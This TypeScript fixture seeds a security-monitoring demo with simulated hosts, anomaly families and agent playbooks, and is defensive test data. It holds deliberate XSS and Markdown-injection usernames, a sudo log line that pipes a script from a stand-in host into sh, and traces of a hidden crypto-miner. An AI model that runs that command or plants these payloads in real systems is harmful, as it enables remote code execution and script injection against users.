/**
 * The sample fleet's story, as data: which hosts exist, which anomaly families hit them and how the agent answers
 * each. sample-data.ts plays it through the store. Some names are hostile on purpose (HTML and Markdown injection),
 * because hostnames, usernames and evidence come from logs an attacker writes.
 */
import type { Anomaly, Severity } from '../../../models/src/schema/index.ts';
import { mulberry32 } from '../../../models/src/util/mulberry32.ts';

export const SAMPLE_HOSTS = ['web-1', 'web-2', 'web-3', 'api-1', 'db-1', 'batch-1'] as const;
export const HOSTILE_USER = '<img src=x onerror=alert(1)>';
export const HOSTILE_USER_MD = 'eve|*x*[y](javascript:alert(1))';
const USERS = ['alice', 'bob', 'deploy', 'root', 'ci-runner', HOSTILE_USER, HOSTILE_USER_MD];
const ATTACKERS = ['203.0.113.7', '198.51.100.23', '192.0.2.200', '203.0.113.99'];

/** How the agent's policy answers a family: autonomous fix, a recommendation for a person, or nothing. */
export interface Response {
  playbook: string;
  mode: 'auto' | 'recommend';
  successRate: number;
  /** How long the playbook itself runs (ms). */
  runMs: [number, number];
}

export interface Family {
  type: Anomaly['type'];
  source: Anomaly['source'];
  weight: number;
  severity: Severity;
  /** Probability that a person closes its incident as a false positive. */
  fpRate: number;
  entity: (r: () => number, host: string) => Anomaly['entity'];
  line: (host: string, entity: string) => string;
  response?: Response;
  /** Cloud families have no host and are stored under a cloud origin. */
  cloud?: true;
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length) % xs.length];

export const FAMILIES: Family[] = [
  {
    type: 'ssh_brute_force',
    source: 'ec2.auth',
    weight: 30,
    severity: 'high',
    fpRate: 0.03,
    entity: (r) => ({ kind: 'ip', id: pick(r, ATTACKERS) }),
    line: (h, ip) => `Mar  1 00:01:02 ${h} sshd[811]: Failed password for root from ${ip} port 50122 ssh2`,
    response: { playbook: 'block-ip', mode: 'auto', successRate: 0.97, runMs: [40, 400] },
  },
  {
    type: 'credential_stuffing',
    source: 'ec2.auth',
    weight: 8,
    severity: 'medium',
    fpRate: 0.15,
    entity: (r) => ({ kind: 'user', id: pick(r, USERS) }),
    line: (h, u) => `Mar  1 00:02:11 ${h} sshd[912]: Invalid user ${u} from 198.51.100.4 port 40022`,
  },
  {
    type: 'suspicious_command',
    source: 'ec2.syslog',
    weight: 10,
    severity: 'high',
    fpRate: 0.2,
    entity: (r) => ({ kind: 'user', id: pick(r, USERS) }),
    line: (h, u) => `Mar  1 00:03:00 ${h} sudo: ${u} : COMMAND=/bin/sh -c "curl -s http://x.example/i.sh | sh"`,
    response: { playbook: 'kill-process', mode: 'recommend', successRate: 0.9, runMs: [30, 300] },
  },
  {
    type: 'crypto_miner',
    source: 'ec2.process',
    weight: 9,
    severity: 'critical',
    fpRate: 0.02,
    entity: (r) => ({ kind: 'process', id: `xmrig:${1000 + Math.floor(r() * 9000)}` }),
    line: (h) => `${h} pid=4242 exe=/tmp/.x/xmrig cpu=398%`,
    response: { playbook: 'kill-process', mode: 'auto', successRate: 0.94, runMs: [30, 500] },
  },
  {
    type: 'disk_fill',
    source: 'ec2.disk',
    weight: 7,
    severity: 'high',
    fpRate: 0.05,
    entity: (_r, h) => ({ kind: 'host', id: h }),
    line: (h) => `${h} mount=/var/log used=97% growth=1.2GB/5min`,
    response: { playbook: 'clean-disk', mode: 'auto', successRate: 0.85, runMs: [4000, 25000] },
  },
  {
    type: 'unexpected_package',
    source: 'ec2.syslog',
    weight: 6,
    severity: 'low',
    fpRate: 0.45,
    entity: (_r, h) => ({ kind: 'host', id: h }),
    line: (h) => `Mar  1 00:04:00 ${h} dpkg: status installed netcat-openbsd:amd64 1.218-4`,
  },
  {
    type: 'behavior_change',
    source: 'ec2.auth',
    weight: 6,
    severity: 'medium',
    fpRate: 0.5,
    entity: (r) => ({ kind: 'user', id: pick(r, USERS) }),
    line: (h, u) => `Mar  1 03:14:00 ${h} sshd[77]: Accepted publickey for ${u} from 10.0.4.7 port 51000 ssh2`,
  },
  {
    type: 'port_scan',
    source: 'vpc',
    weight: 5,
    severity: 'medium',
    fpRate: 0.1,
    cloud: true,
    entity: (r) => ({ kind: 'ip', id: pick(r, ATTACKERS) }),
    line: (_h, ip) =>
      `2 318574629104 eni-0de93a910d93ab4be ${ip} 10.0.1.23 40001 22 6 1 44 1740787200 1740787201 REJECT OK`,
  },
];

export function pickFamily(r: () => number): Family {
  const total = FAMILIES.reduce((s, f) => s + f.weight, 0);
  let x = r() * total;
  for (const f of FAMILIES) {
    x -= f.weight;
    if (x < 0) return f;
  }
  return FAMILIES[0];
}

/** Seeded PRNG (mulberry32). */
export const prng = mulberry32;

export const between = (r: () => number, [lo, hi]: readonly [number, number]) => lo + Math.floor(r() * (hi - lo));
